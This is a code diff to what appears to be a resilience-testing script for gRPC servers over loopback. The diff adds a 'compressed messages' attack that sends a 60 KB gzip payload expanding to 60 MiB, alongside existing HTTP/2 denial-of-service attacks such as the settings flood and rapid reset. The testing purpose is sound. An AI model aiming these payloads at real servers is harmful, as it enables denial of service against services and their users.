@@ -7,6 +7,7 @@ Raw frames over loopback. Every attack meets a server of its own, and a good cli
 code 1 when a server died, or did not answer a new client afterwards, except from the attack for which nothing in the server helps.
 """
 import argparse
+import gzip
 import json
 import os
 import resource
@@ -284,6 +285,28 @@ def unfinished_messages(port, seconds, tls=None):
     return done
 
 
+def compressed_messages(port, seconds, tls=None):
+    """60 KB of gzip that would be 60 MiB, a call and a connection each. Counts the calls."""
+    message = gzip.compress(bytes(60 << 20))
+    message = b"\1" + struct.pack(">I", len(message)) + message
+    call = frame(HEADERS, END_HEADERS, 1, GENERATE_BLOCK + header("grpc-encoding", "gzip"))
+    for at in range(0, len(message), 16000):
+        call += frame(DATA, END_STREAM if at + 16000 >= len(message) else 0, 1, message[at:at + 16000])
+    done, end = 0, time.monotonic() + seconds
+    while time.monotonic() < end:
+        peer = Peer(port, tls)
+        try:
+            peer.send(call)
+            for kind, flags, stream, _ in peer.frames():
+                if stream == 1 and (kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM)):
+                    break
+            done += 1
+        except OSError:
+            time.sleep(0.001)
+        peer.close()
+    return done
+
+
 # gRPC 1.51 keeps reading calls while the ends of others wait, and Debian's build (with its debug checks) searches a list of all that wait
 # for each that ends: seconds of attack are followed by many of work.
 HELPLESS = "rapid reset of calls, 4 connections"
@@ -300,6 +323,7 @@ ATTACKS = {
     "settings flood (CVE-2019-9515)": (repeat(lambda _: frame(SETTINGS, 0, 0)), "frames"),
     "more connections than descriptors (CVE-2023-4785)": (many_connections, "connections"),
     "unfinished messages": (unfinished_messages, "bytes"),
+    "compressed messages": (compressed_messages, "calls"),
 }
 
 
